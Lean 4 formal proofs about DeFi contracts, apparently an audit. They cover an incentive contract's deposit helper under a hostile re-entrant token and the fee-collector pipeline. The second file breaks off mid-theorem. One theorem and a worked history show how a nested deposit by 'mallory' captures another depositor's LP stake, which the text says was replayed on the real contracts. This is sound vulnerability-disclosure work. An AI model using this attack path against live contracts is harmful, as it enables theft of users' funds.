    let c : Cfg := { lpNative := true, feeAsset := 0, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let ops : List (Env × Op) :=
      [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
       ({ epoch := 1, time := 100, sender := 4, offers := [(0, 1700), (3, 5000)] }, .openFlow 3 5000 none (some 10))]
    let s0 := init 1 [((1, 0), 5000), ((4, 0), 10000), ((4, 3), 8000)]
    let s := reach c s0 ops
    (∀ p ∈ ops, strayOf c p.1 p.2 = 0) ∧ s.flows.length = 1
    ∧ (balOf s 4 0, balOf s COLLECTOR 0, balOf s INC 0, staked s, flowFunds s 0, balOf s INC 3, balOf s 4 3)
        = (9000, 1000, 1000, 1000, 0, 5000, 3000) := by decide

/-! ### re-entrant transactions: the cw20 asset of the helper's pair is hostile

`Tx.reenter hk outer`: `outer` is sent while the pool token is armed with `hk` (trigger point, plain / caught,
the token's own account `hk.sender` with its own funds and allowances `hk.offers`, ANY operation `hk.inner` of
the incentive contract or a helper `Deposit` of its own). `reachTx` runs histories of plain and re-entrant
transactions; every theorem below holds for all amounts, states, hooks and histories. -/

/-- the plain helper deposit is its four messages in a row — the helper's pull, the pair's pull, the pair's LP
    transfer, the helper's reply run with the depositor's own `TEMP_STATE` —; a re-entrant one is the same four
    with the hook between the first and the second (trigger 1) or the second and the third (trigger 2) -/
theorem helper_deposit_phases (c : Cfg) (s : St) (e : Env) (a0 a1 dur : Nat) :
    helperDeposit c s e a0 a1 dur = helperDepositP c s e a0 a1 dur :=
  helperDeposit_phases c s e a0 a1 dur

/-- **the hostile token fires on the helper's path only**: armed while any operation other than a helper deposit
    naming the pair's own assets is sent, nothing of the hook happens — the transaction is the plain operation -/
theorem hostile_token_fires_on_helper_path_only (c : Cfg) (s : St) (e : Env) (hk : Hook) (outer : Op)
    (h : ∀ a0 a1 dur, outer ≠ .helperDeposit a0 a1 dur) :
    stepTx c s e (.reenter hk outer) = stepTx c s e (.plain outer) := by
  cases outer with
  | helperDeposit a0 a1 dur => exact absurd rfl (h a0 a1 dur)
  | openPos _ _ _ | expandPos _ _ _ | closePos _ | withdraw | claim | snapshot | openFlow _ _ _ _
  | expandFlow _ _ _ _ | closeFlow _ | helperDepositAs _ _ _ _ _ => rfl

/-- **a refused nested call leaves no trace**: a re-entrant transaction that went through while its nested
    message did not — the trigger was never hit (`0`), or the nested operation was refused and caught (`2`) —
    ends in exactly the state of the plain outer operation, which goes through as well. Any hook, any state. -/
theorem refused_nested_call_leaves_no_trace {c : Cfg} {s s' : St} {e : Env} {hk : Hook} {outer : Op} {f : Nat}
    (h : stepTx c s e (.reenter hk outer) = .ok (s', f)) (hf : f ≠ 1) : step c s e outer = .ok s' := by
  cases outer with
  | helperDeposit a0 a1 dur => exact reenterDeposit_refused h hf
  | openPos _ _ _ | expandPos _ _ _ | closePos _ | withdraw | claim | snapshot | openFlow _ _ _ _
  | expandFlow _ _ _ _ | closeFlow _ | helperDepositAs _ _ _ _ _ =>
    unfold stepTx at h
    obtain ⟨t, ht, h⟩ := bind_eq_ok h
    injection h with h; injection h with h1 _
    subst h1
    exact ht

/-- **helper_keeps_nothing, re-entrant, any state**: after a helper deposit into which ANY message of the hostile
    token was nested (any trigger, plain or caught, any nested operation incl. a deposit of its own, whatever
    became of it) the helper holds no LP at all: the reply stakes its whole LP balance. -/
theorem helper_keeps_no_lp_reentrant {c : Cfg} {s s' : St} {e : Env} {hk : Hook} {a0 a1 dur f : Nat}
    (h : stepTx c s e (.reenter hk (.helperDeposit a0 a1 dur)) = .ok (s', f)) : balOf s' HELPER 0 = 0 := by
  obtain ⟨_, _, _, _, _, _, _, _, _, _, _, _, _, _, _, _, h4⟩ := reenterDeposit_spec h
  have := hdReply_helper h4 0
  simpa using this

/-- **helper_keeps_nothing over ALL histories of plain and re-entrant transactions**: from a fresh contract and a
    helper that holds nothing, after every history — any senders other than the helper itself (the hostile
    token's account included), any hooks, nested deposits that went through, were refused, were caught, failed
    transactions — the helper holds NOTHING: no LP, none of the pool assets, no other asset. -/
theorem helper_keeps_nothing_tx (c : Cfg) (e0 : Nat) (bal : Bal) (txs : List (Env × Tx))
    (h0 : ∀ a, aget bal (HELPER, a) = 0) (hs : TxSendersAvoid HELPER txs) (a : Nat) :
    balOf (reachTx c (init e0 bal) txs) HELPER a = 0 :=
  (reachTx_HInv txs _ (init_HInv e0 bal h0) hs).empty a

/-- … as a one-transaction statement from any state in which the helper holds nothing and has created no flow
    (`HInv`: with the weight and flow invariants) -/
theorem helper_keeps_nothing_tx_step {c : Cfg} {s s' : St} {e : Env} {tx : Tx} {f : Nat} (hI : HInv s)
    (hs : ∀ u ∈ txSenders e tx, u ≠ HELPER) (h : stepTx c s e tx = .ok (s', f)) (a : Nat) :
    balOf s' HELPER a = 0 :=
  (stepTx_HInv hI hs h).empty a

/-- **custody_eq over ALL histories of plain and re-entrant transactions** (no donated LP coins, `strayTx`: the
    plain operation's and the nested one's; senders other than the contract; each party's coins with distinct
    denoms; epochs that never go back): LP balance = Σ open + Σ closed + Σ unclaimed funds of the LP-asset flows,
    exactly, after every transaction — also after those in which a nested operation ran between the helper's
    messages. -/
theorem custody_eq_tx (c : Cfg) (e0 : Nat) (bal : Bal) (txs : List (Env × Tx))
    (hs : TxSendersAvoid INC txs) (ho : ∀ p ∈ txs, txOffersOk p.1 p.2) (hk : ∀ p ∈ txs, strayTx c p.1 p.2 = 0)
    (he : EpochsFromTx e0 txs) (h0 : balOf (init e0 bal) INC 0 = 0) :
    CustodyEq (reachTx c (init e0 bal) txs) 0 := by
  obtain ⟨ep', h⟩ := reachTx_custody (c := c) txs (init e0 bal) e0 _ (init_CInv e0 bal) hs ho hk he
  have hb := h.bal
  unfold owed at hb
  simp only [if_true] at hb
  unfold CustodyEq
  rw [flowFunds_eq]
  omega

/-- the custody equation through ONE transaction, plain or re-entrant, from any state satisfying the invariant -/
theorem custody_eq_tx_step {c : Cfg} {s s' : St} {e : Env} {tx : Tx} {f K : Nat} (hI : CInv s e.epoch K)
    (hs : ∀ u ∈ txSenders e tx, u ≠ INC) (hn : txOffersOk e tx) (h0 : strayTx c e tx = 0)
    (h : stepTx c s e tx = .ok (s', f)) : balOf s' INC 0 = staked s' + flowFunds s' 0 + K := by
  have hb := (stepTx_custody hI hs hn h0 h).bal
  unfold owed at hb
  simp only [if_true] at hb
  rw [flowFunds_eq]
  omega

/-- **a helper deposit is staked for ITS sender with exactly the LP minted** (plain transaction, any state in which
    the helper holds no LP, any depositor other than the helper): the depositor's position of the stated duration
    is opened with / grows by exactly `a0 + a1`; no other position of the depositor, no position of anybody else
    and no closed position moves. -/
theorem helper_deposit_credits_sender {c : Cfg} {s s' : St} {e : Env} {a0 a1 dur : Nat} (hs : e.sender ≠ HELPER)
    (h0 : balOf s HELPER 0 = 0) (h : step c s e (.helperDeposit a0 a1 dur) = .ok s') :
    amtAt (openOf s' e.sender) dur = amtAt (openOf s e.sender) dur + (a0 + a1)
    ∧ (∀ d, d ≠ dur → amtAt (openOf s' e.sender) d = amtAt (openOf s e.sender) d)
    ∧ (∀ v, v ≠ e.sender → openOf s' v = openOf s v)
    ∧ s'.closedPos = s.closedPos :=
  step_helperDeposit_credits hs h0 h

/-- **the reply of a re-entrant deposit** (helper empty before, senders other than the helper): it runs in a state
    `t` — the positions before the transaction, or those the nested operation left — in which the helper holds
    exactly the LP minted for THIS deposit, and credits exactly that to the receiver and duration `tmp` it finds
    in `TEMP_STATE`: the depositor's own, unless a nested operation went through (`f = 1`), then `tmpAfter` — still
    the depositor's own for every nested operation but a `Deposit`. -/
theorem reentrant_deposit_reply {c : Cfg} {s s' : St} {e : Env} {hk : Hook} {a0 a1 dur f : Nat} (hI : HInv s)
    (hs : e.sender ≠ HELPER) (hks : hk.sender ≠ HELPER)
    (h : stepTx c s e (.reenter hk (.helperDeposit a0 a1 dur)) = .ok (s', f)) :
    ∃ (t : St) (tmp : Tmp),
      amtAt (openOf s' tmp.1) tmp.2 = amtAt (openOf t tmp.1) tmp.2 + (a0 + a1)
      ∧ (∀ d, d ≠ tmp.2 → amtAt (openOf s' tmp.1) d = amtAt (openOf t tmp.1) d)
      ∧ (∀ v, v ≠ tmp.1 → openOf s' v = openOf t v)
      ∧ s'.closedPos = t.closedPos
      ∧ ((f = 1 ∧ tmp = tmpAfter hk (e.sender, dur)
            ∧ ∃ t0 t1, t0.openPos = s.openPos ∧ t0.closedPos = s.closedPos
                ∧ step c t0 (hk.env e) hk.inner = .ok t1 ∧ t.openPos = t1.openPos ∧ t.closedPos = t1.closedPos)
         ∨ (f ≠ 1 ∧ tmp = (e.sender, dur) ∧ t.openPos = s.openPos ∧ t.closedPos = s.closedPos)) := by
  obtain ⟨t, tmp, h4, hrow, hcase⟩ := reenterDeposit_reply hI hs hks h
  obtain ⟨r1, r2, r3, r4⟩ := hdReply_position h4
  rw [hrow] at r1
  exact ⟨t, tmp, r1, r2, r3, r4, hcase⟩

/-- … hence **with no nested deposit going through the deposit is staked for ITS sender**: whatever else the hostile
    token nested into it (any operation of the incentive contract, gone through, refused or never triggered; a
    deposit of its own that was refused), the depositor's position of the stated duration grows by exactly the
    LP minted, on top of what the nested operation left. -/
theorem deposit_credits_its_sender_unless_nested_deposit {c : Cfg} {s s' : St} {e : Env} {hk : Hook}
    {a0 a1 dur f : Nat} (hI : HInv s) (hs : e.sender ≠ HELPER) (hks : hk.sender ≠ HELPER)
    (h : stepTx c s e (.reenter hk (.helperDeposit a0 a1 dur)) = .ok (s', f))
    (hnd : f = 1 → ∀ x y d, hk.inner ≠ .helperDeposit x y d) :
    ∃ t : St, amtAt (openOf s' e.sender) dur = amtAt (openOf t e.sender) dur + (a0 + a1)
      ∧ (∀ v, v ≠ e.sender → openOf s' v = openOf t v) ∧ s'.closedPos = t.closedPos
      ∧ (f ≠ 1 → t.openPos = s.openPos ∧ t.closedPos = s.closedPos) := by
  obtain ⟨t, tmp, r1, _, r3, r4, hcase⟩ := reentrant_deposit_reply hI hs hks h
  have htmp : tmp = (e.sender, dur) := by
    rcases hcase with ⟨hf, ht, _⟩ | ⟨_, ht, _⟩
    · rw [ht]
      unfold tmpAfter
      have := hnd hf
      split
      · rename_i x y d hx; exact absurd hx (this x y d)
      · rfl
    · exact ht
  subst htmp
  refine ⟨t, r1, r3, r4, ?_⟩
  intro hf
  rcases hcase with ⟨hf', _⟩ | ⟨_, _, h1, h2⟩
  · exact absurd hf' hf
  · exact ⟨h1, h2⟩

/-- **OBSERVATION (what the unchanged helper does, not a clause of C11): a nested deposit takes the outer LP.**
    When the nested operation is a helper `Deposit` of the token's account that went through, the outer reply
    finds the NESTED deposit's `TEMP_STATE` and stakes the outer depositor's LP — all `a0 + a1` of it — for the
    nested sender under the nested duration `d`; nobody else's positions are touched by the reply, so an outer
    depositor other than the token's account is credited nothing. The helper still ends with nothing
    (`helper_keeps_no_lp_reentrant`) and the custody equation holds (`custody_eq_tx`). -/
theorem nested_deposit_takes_outer_lp {c : Cfg} {s s' : St} {e : Env} {hk : Hook} {a0 a1 dur x y d : Nat}
    (hI : HInv s) (hs : e.sender ≠ HELPER) (hks : hk.sender ≠ HELPER) (hin : hk.inner = .helperDeposit x y d)
    (h : stepTx c s e (.reenter hk (.helperDeposit a0 a1 dur)) = .ok (s', 1)) :
    ∃ t : St, amtAt (openOf s' hk.sender) d = amtAt (openOf t hk.sender) d + (a0 + a1)
      ∧ (∀ v, v ≠ hk.sender → openOf s' v = openOf t v) := by
  obtain ⟨t, tmp, r1, _, r3, _, hcase⟩ := reentrant_deposit_reply hI hs hks h
  have htmp : tmp = (hk.sender, d) := by
    rcases hcase with ⟨_, ht, _⟩ | ⟨hf, _⟩
    · rw [ht]; unfold tmpAfter; rw [hin]
    · exact absurd rfl hf
  subst htmp
  exact ⟨t, r1, r3⟩

/-- the history of the observation: cw20 LP, unbonding 86 400 s; bob (2) has deposited 5000 + 5000 through the helper -/
def obsCfg : Cfg :=
  { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
def obsStart : St :=
  reachTx obsCfg
    (init 1 [((1, 1), 9000), ((1, 3), 9000), ((2, 1), 9000), ((2, 3), 9000), ((MALLORY, 1), 9000), ((MALLORY, 3), 9000),
             ((PAIR, 0), 100000)])
    [({ epoch := 1, time := 1700000000, sender := 2, offers := [(1, 5000), (3, 5000)] }, .plain (.helperDeposit 5000 5000 86400))]
/-- the hostile pool token is armed: inside the helper's pull mallory (6) deposits 1000 + 1000 of its own, plainly -/
def obsHook : Hook :=
  { trig := 1, catch_ := false, sender := MALLORY, offers := [(1, 1000), (3, 1000)], inner := .helperDeposit 1000 1000 86400 }
/-- alice (1) deposits 2000 + 2000 -/
def obsResult : Res (St × Nat) :=
  stepTx obsCfg obsStart { epoch := 1, time := 1700000010, sender := 1, offers := [(1, 2000), (3, 2000)] }
    (.reenter obsHook (.helperDeposit 2000 2000 86400))

/-- the exact history of the observation (engine `incentive`): `bob helper_deposit 5000 5000 86400`, then
    `alice reenter t1 plain helper_deposit 1000 1000 86400 1:1000 3:1000 -- helper_deposit 2000 2000 86400 1:2000
    3:2000`. The transaction goes through with the nested deposit (`fired = 1`); alice has paid 2000 + 2000 (7000
    of each left) and holds NO position, mallory holds 6000 = its own 2000 + alice's 4000 LP, bob his 10 000; the
    helper holds nothing and the contract's LP balance is exactly the staked 16 000. Replayed on the real
    contracts with the same outcome. -/
theorem nested_deposit_stakes_outer_lp_for_nested_sender :
    (obsResult.toOption.map (fun x => (x.2, openOf x.1 1, openOf x.1 MALLORY, openOf x.1 2, balOf x.1 1 1, balOf x.1 1 3)))
        = some (1, [], [{ dur := 86400, amt := 6000 }], [{ dur := 86400, amt := 10000 }], 7000, 7000)
    ∧ (obsResult.toOption.map (fun x => (balOf x.1 HELPER 0, balOf x.1 HELPER 1, balOf x.1 HELPER 3, balOf x.1 INC 0, staked x.1)))
        = some (0, 0, 0, 16000, 16000) :=
  ⟨by decide, by decide⟩

end WW.C11
