/-
  C10 — Fee pipeline: owed protocol fees reach the epoch, minus only the take rate.

  Theorems about `WW.Model.Collector.forwardFees` (collect → aggregate → take rate → transfer) and
  its composition with the distributor's reply (`WW.Model.Feeflow.newEpoch`).  The distribution asset is a
  parameter (`cfg.dist`) of every collector theorem; on the joint machine it is STATE: the collector asks
  the distributor for its current `distribution_asset` on every run (`Feeflow.ccfg` / `cview`), the owner
  may switch it in mid-history (`Feeflow.Op.setDist`), and `epoch_total_eq` is stated per asset (the
  rollover from the expiring epoch keeps the assets it was held in).  The router's output for
  every swap and the protocol fee that the aggregation swaps leave behind in the pairs are arbitrary
  parameters: the theorems hold for all of them, for any number of pools / vaults / assets, any pending
  amounts, any registry state.

  `CollectFees` / `AggregateFees` can also be sent to the collector directly by anybody (no sender check
  in the code); `direct_*` below say what that does: collection moves exactly the collectable pending
  fees of the named contracts, aggregation only converts collector balances, nothing reaches the DAO or
  the distributor.

  PAGES.  `ForwardFees` asks each factory for ONE page of its listing (`start_after: None,
  limit: Some(30)`; a factory returns the first `min(limit or 10, 30)` entries in storage-key order).
  The model collects / aggregates exactly that page (`fwdVaults`, `fwdPools`); `collected` below is what
  the page yields.  `every_registered_collected` says that with at most 30 registered pairs and at most
  30 vaults the page is everything; `page_limits_documented` pins the numbers (regenerated from the
  sources on every run), `default_page_misses_the_eleventh` shows what a shorter page loses.

  PARTIAL (by design, see DESIGN §5/C10): "a failed step leaves every balance unchanged" is CosmWasm's
  transaction atomicity.  In the model it holds by construction (`Res`: `.err`/`.panic` carry no state,
  `Feeflow.step` returns the old state's observation), so there is nothing to prove; on the real stack
  the `feeflow` engine injects failing routes (a pair with swaps disabled on the route), early / repeated
  `NewEpoch`, unauthorised callers, and the monitor `failed_step_changes_nothing` compares every balance
  and ledger before and after.
-/
import WW.Proofs.Collector
namespace WW.C10
open WW WW.Collector

/-- what the collection phase moves into the collector for asset `i`: all pending fees of the vaults on
    the vault factory's page, and every pending entry above the pair's collectable minimum of the
    registered pairs on the pool factory's page -/
def collected (s : St) (i : Nat) : Nat :=
  vaultsCollected (fwdVaults s) i s.vaults + poolsCollected (fwdPools s) i s.pools

/-- **forward_auth** — only the fee distributor can trigger forwarding. -/
theorem forward_auth (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (h : forwardFees cfg s sender epochId router acc = .ok o) :
    sender = cfg.distributor :=
  (forwardFees_spec h).1

theorem forward_auth_rejects (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (hne : sender ≠ cfg.distributor) :
    forwardFees cfg s sender epochId router acc = .err := by
  unfold forwardFees; rw [if_pos hne]

/-- **take_exact** — the DAO receives exactly `⌊take_rate · B⌋` (B = the collector's distribution-asset
    balance after aggregation) when the take rate is active, non-zero and a DAO address is set, and
    nothing otherwise; a non-zero cut is recorded under the epoch id, a zero cut leaves the history
    untouched.  (`take_rate < 1` is what `UpdateConfig` enforces, see `take_rate_stays_below_one`.) -/
theorem take_exact (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (hrate : s.rate < E18) (hbase : o.base ≤ U128MAX)
    (h : forwardFees cfg s sender epochId router acc = .ok o) :
    o.st.dao = s.dao + o.take ∧
    (s.active = true ∧ s.rate ≠ 0 ∧ s.daoSet = true → o.take = o.base * s.rate / E18) ∧
    (¬(s.active = true ∧ s.rate ≠ 0 ∧ s.daoSet = true) → o.take = 0) ∧
    (o.take ≠ 0 → o.st.trh = s.trh ++ [(epochId, o.take)]) ∧
    (o.take = 0 → o.st.trh = s.trh) := by
  obtain ⟨_, b2, in0, sw0, b3, in1, sw1, _, _, _, ho⟩ := forwardFees_spec h
  subst ho
  simp only at hbase
  refine ⟨rfl, ?_, ?_, ?_, ?_⟩
  · intro hact
    simp only [takeOf]
    rw [if_pos hact]
    have h1 : b3 cfg.dist * s.rate ≤ b3 cfg.dist * E18 := Nat.mul_le_mul_left _ (Nat.le_of_lt hrate)
    have h2 : b3 cfg.dist * s.rate / E18 ≤ b3 cfg.dist * E18 / E18 := Nat.div_le_div_right h1
    rw [Nat.mul_div_cancel _ E18_pos] at h2
    rw [if_pos (Nat.le_trans h2 hbase)]
  · intro hact
    simp only [takeOf]
    rw [if_neg hact]
  · intro hne
    simp only at hne ⊢
    rw [if_neg hne]
  · intro he
    simp only at he ⊢
    rw [if_pos he]

/-- `UpdateConfig` keeps the take rate strictly below one -/
theorem take_rate_stays_below_one (cfg : Cfg) (s s' : St) (sender : Nat) (rate : Option Nat) (setDao : Bool)
    (active : Option Bool) (hr : s.rate < E18) (h : updateConfig cfg s sender rate setDao active = .ok s') :
    s'.rate < E18 := by
  unfold updateConfig at h
  split at h
  · cases h
  · cases rate with
    | none => simp only at h; injection h with h; subst h; exact hr
    | some r =>
      simp only at h
      split at h
      · rename_i hlt; injection h with h; subst h; exact hlt
      · cases h

/-- **pipeline_conservation** — what the collector held of the distribution asset, plus what was
    collected from pools and vaults, plus what the router paid for the swapped assets, equals what went
    to the DAO plus what went to the distributor; nothing of the distribution asset is left behind. -/
theorem pipeline_conservation (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (h : forwardFees cfg s sender epochId router acc = .ok o) :
    s.bal cfg.dist + collected s cfg.dist + o.swappedIn = o.take + Distributor.amt o.inflow ∧
    o.base = o.take + Distributor.amt o.inflow ∧
    o.st.bal cfg.dist = 0 := by
  obtain ⟨_, b2, in0, sw0, b3, in1, sw1, ha0, ha1, hle, ho⟩ := forwardFees_spec h
  obtain ⟨e0, _⟩ := aggregate_spec _ _ _ _ _ _ _ _ _ _ (vaultAssets_ne cfg _ s.vaults) ha0
  obtain ⟨e1, _⟩ := aggregate_spec _ _ _ _ _ _ _ _ _ _ (poolAssets_ne cfg _ _) ha1
  rw [collectPools_apply, collectVaults_apply] at e0
  subst ho
  have hin : Distributor.amt (if b3 cfg.dist - takeOf s (b3 cfg.dist) = 0 then none
      else some (b3 cfg.dist - takeOf s (b3 cfg.dist))) = b3 cfg.dist - takeOf s (b3 cfg.dist) := by
    split
    · rename_i h0; simp [Distributor.amt, h0]
    · simp [Distributor.amt]
  refine ⟨?_, ?_, ?_⟩
  · simp only [collected]; rw [hin]; omega
  · simp only; rw [hin]; omega
  · simp [upd]

/-- **untouched_or_swapped** — every non-distribution asset in the collector is either left exactly as
    it was after collection, or swapped in full (balance 0); it is swapped only if it exceeds the
    aggregation minimum and its registered route simulates. -/
theorem untouched_or_swapped (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (h : forwardFees cfg s sender epochId router acc = .ok o)
    (i : Nat) (hi : i ≠ cfg.dist) :
    o.st.bal i = s.bal i + collected s i ∨
    (o.st.bal i = 0 ∧ AGG_T < s.bal i + collected s i ∧
      simOk (poolsAfter (fwdPools s) s.pools) (s.routes i) = true) := by
  obtain ⟨_, b2, in0, sw0, b3, in1, sw1, ha0, ha1, hle, ho⟩ := forwardFees_spec h
  obtain ⟨_, f0⟩ := aggregate_spec _ _ _ _ _ _ _ _ _ _ (vaultAssets_ne cfg _ s.vaults) ha0
  obtain ⟨_, f1⟩ := aggregate_spec _ _ _ _ _ _ _ _ _ _ (poolAssets_ne cfg _ _) ha1
  have hb1 : collectPools (fwdPools s) s.pools (collectVaults (fwdVaults s) s.vaults s.bal) i =
      s.bal i + collected s i := by
    rw [collectPools_apply, collectVaults_apply]; simp only [collected]; omega
  subst ho
  have hfin : upd b3 cfg.dist 0 i = b3 i := by simp [upd, hi]
  simp only
  rw [hfin]
  cases f0 i hi with
  | inl u0 =>
    cases f1 i hi with
    | inl u1 => left; rw [u1, u0, hb1]
    | inr w1 => right; rw [u0, hb1] at w1; exact ⟨w1.1, w1.2.1, w1.2.2.1⟩
  | inr w0 =>
    right
    rw [hb1] at w0
    cases f1 i hi with
    | inl u1 => rw [u1]; exact ⟨w0.1, w0.2.1, w0.2.2.1⟩
    | inr w1 => exact ⟨w1.1, w0.2.1, w0.2.2.1⟩

/-- pending fees after forwarding: every vault on the vault factory's page is emptied; a pair keeps
    exactly the entries that were at or below its collectable minimum (or all of them when it is not
    registered / not on the pool factory's page), plus whatever the aggregation swaps accrued -/
theorem pending_after (cfg : Cfg) (s : St) (sender epochId : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (h : forwardFees cfg s sender epochId router acc = .ok o) :
    o.st.vaults = vaultsAfter (fwdVaults s) s.vaults ∧
    o.st.pools = addAcc acc 0 (poolsAfter (fwdPools s) s.pools) := by
  obtain ⟨_, b2, in0, sw0, b3, in1, sw1, _, _, _, ho⟩ := forwardFees_spec h
  subst ho
  exact ⟨rfl, rfl⟩

/-- **epoch_total_eq** — for `NewEpoch` on the joint model, PER ASSET and whatever the distribution asset
    is at that moment (the owner may have switched it, `Feeflow.Op.setDist`): the collector runs its pipeline
    towards the distributor's CURRENT distribution asset `s.d.dist` (`ccfg` / `cview`); the amount
    transferred to the distributor (the growth of its balance — in the distribution asset only) equals the
    new epoch's total minus what was rolled over from the epoch leaving the grace window, in every asset
    (the rollover keeps the assets it was held in); the new epoch starts fully available; the DAO's cut is
    paid in the distribution asset. -/
theorem epoch_total_eq (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (now : Nat) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) (o : Out) (h : Feeflow.newEpoch cfg s now router acc = .ok (s', o)) :
    ∃ new rest, s'.d.epochs = new :: rest ∧
      (∀ a, s'.d.bal a = s.d.bal a + Distributor.sel s.d.dist a (Distributor.amt o.inflow)) ∧
      (∀ a, Distributor.amtOf a new.total =
        Distributor.sel s.d.dist a (Distributor.amt o.inflow) +
          Distributor.amtOf a (Distributor.availAt s.d.epochs (s.d.grace - 1))) ∧
      new.avail = new.total ∧
      o.base = o.take + Distributor.amt o.inflow ∧
      (∀ a, s'.daoBal a = s.daoBal a + Distributor.sel s.d.dist a o.take) ∧
      s'.c = o.st ∧ s'.d.dist = s.d.dist ∧
      forwardFees (Feeflow.ccfg cfg s) (Feeflow.cview s) cfg.c.distributor new.id router acc = .ok o := by
  unfold Feeflow.newEpoch at h
  cases hn : Distributor.nextEpoch cfg.d s.d now with
  | err => rw [hn] at h; simp at h
  | panic => rw [hn] at h; simp at h
  | ok pr =>
    obtain ⟨id, start⟩ := pr
    rw [hn] at h; simp only at h
    cases hf : forwardFees (Feeflow.ccfg cfg s) (Feeflow.cview s) cfg.c.distributor id router acc with
    | err => rw [hf] at h; simp at h
    | panic => rw [hf] at h; simp at h
    | ok o1 =>
      rw [hf] at h; simp only at h
      cases hr : Distributor.receiveEpoch s.d id start o1.inflow with
      | err => rw [hr] at h; simp at h
      | panic => rw [hr] at h; simp at h
      | ok d' =>
        rw [hr] at h; simp only at h
        injection h with h; injection h with h1 h2
        subst h1; subst h2
        obtain ⟨_, tot, hagg, hd'⟩ := Distributor.receiveEpoch_spec hr
        subst hd'
        obtain ⟨hamt, _⟩ := Distributor.agg_spec _ _ _ hagg
        refine ⟨_, _, rfl, fun a => Distributor.addAt_apply _ _ _ _, fun a => ?_, rfl,
          (pipeline_conservation _ _ _ _ _ _ _ hf).2.1, fun a => ?_, rfl, rfl, hf⟩
        · rw [← Distributor.takeOut_rolled, ← Distributor.amtOf_inflowLedger]; exact hamt a
        · simp only [Collector.add, Distributor.sel]
          by_cases ha : a = s.d.dist
          · subst ha; simp
          · rw [if_neg ha, if_neg (fun e => ha e.symm)]; omega

/-- the collector's pipeline always runs towards the distributor's CURRENT distribution asset: after the
    owner switched it (`setDist`), the very next `NewEpoch` aggregates into, takes the DAO's cut from and
    forwards the new asset; the switch itself moves nothing -/
theorem switch_redirects_pipeline (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (sender a : Nat)
    (h : Feeflow.step cfg s (.setDist sender a) = .ok s') :
    sender = cfg.d.owner ∧ (Feeflow.ccfg cfg s').dist = a ∧ s'.d.epochs = s.d.epochs ∧ s'.d.bal = s.d.bal ∧
    s'.c = s.c ∧ s'.daoBal = s.daoBal ∧ s'.ub = s.ub ∧ s'.rts = s.rts := by
  simp only [Feeflow.step] at h
  cases hg : Distributor.setDist cfg.d s.d sender a with
  | err => rw [hg] at h; cases h
  | panic => rw [hg] at h; cases h
  | ok d' =>
    rw [hg] at h; simp only at h
    injection h with h; subst h
    obtain ⟨hd, ho⟩ := Distributor.setDist_spec hg
    subst hd
    exact ⟨ho, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩

/-! ### `CollectFees` / `AggregateFees` sent to the collector directly, in mid-history

  Both entry points are permissionless in the code (no look at `info.sender`): the theorems below hold
  for every sender.  Sent directly they carry no reply id, so nothing reaches the DAO or the distributor. -/

/-- **direct_any_sender** — the outcome of a direct `CollectFees` / `AggregateFees` does not depend on who
    sent it (owner, any user, a stranger, the collector itself). -/
theorem direct_any_sender (cfg : Cfg) (s : St) (a b : Nat) (f : FeesFor) (router : Nat → Nat → Nat → Nat)
    (acc : Nat → Nat → Nat) :
    collectFees s a f = collectFees s b f ∧
    aggregateFees cfg s a f router acc = aggregateFees cfg s b f router acc :=
  ⟨collectFees_any_sender s a b f, aggregateFees_any_sender cfg s a b f router acc⟩

/-- **direct_collect_exact** — a successful direct `CollectFees`: for every asset the collector's balance
    grows by exactly what the named contracts send (all pending fees of a named vault; the entries above
    the collectable minimum of a named / listed pair), exactly that amount leaves the pending ledgers
    (collector + pending is conserved per asset), and the DAO, the take-rate history, the configuration
    and the routes are untouched. -/
theorem direct_collect_exact (s s' : St) (sender : Nat) (f : FeesFor) (h : collectFees s sender f = .ok s') :
    (∀ i, s'.bal i = s.bal i + directCollected s f i) ∧
    (∀ i, s'.bal i + vaultsPending i s'.vaults + poolsPending i s'.pools =
          s.bal i + vaultsPending i s.vaults + poolsPending i s.pools) ∧
    s'.dao = s.dao ∧ s'.trh = s.trh ∧ s'.rate = s.rate ∧ s'.active = s.active ∧ s'.daoSet = s.daoSet ∧
    s'.routes = s.routes := by
  refine ⟨fun i => (collectFees_spec h i).1, fun i => ?_, collectFees_rest h⟩
  obtain ⟨h1, h2⟩ := collectFees_spec h i
  omega

/-- the pending ledgers after a direct `CollectFees` for a factory page are those after the corresponding
    stage of `ForwardFees` (`pending_after`, whose page has `limit = FWD_LIMIT`); the other kind of
    contract is not touched -/
theorem direct_collect_pending_after (s s' : St) (sender : Nat) (lim : Option Nat) :
    (collectFees s sender (.vaultFactory lim) = .ok s' →
      s'.vaults = vaultsAfter (vaultListed s.vaults (vaultPage lim)) s.vaults ∧ s'.pools = s.pools) ∧
    (collectFees s sender (.poolFactory lim) = .ok s' →
      s'.pools = poolsAfter (poolListed s.pools (poolPage lim)) s.pools ∧ s'.vaults = s.vaults) := by
  constructor <;> intro h <;> simp only [collectFees] at h <;> injection h with h <;> subst h <;> exact ⟨rfl, rfl⟩

/-- **direct_aggregate_only_converts** — a successful direct `AggregateFees` names a factory (never
    `Contracts`); the collector's distribution-asset balance grows by exactly what the router paid (it
    never falls); every other asset is untouched or swapped in full, and swapped only above the
    aggregation minimum with a simulating registered route; the pairs only gain what the swaps accrued;
    vaults, DAO, take-rate history and configuration are untouched. -/
theorem direct_aggregate_only_converts (cfg : Cfg) (s s' : St) (sender : Nat) (f : FeesFor)
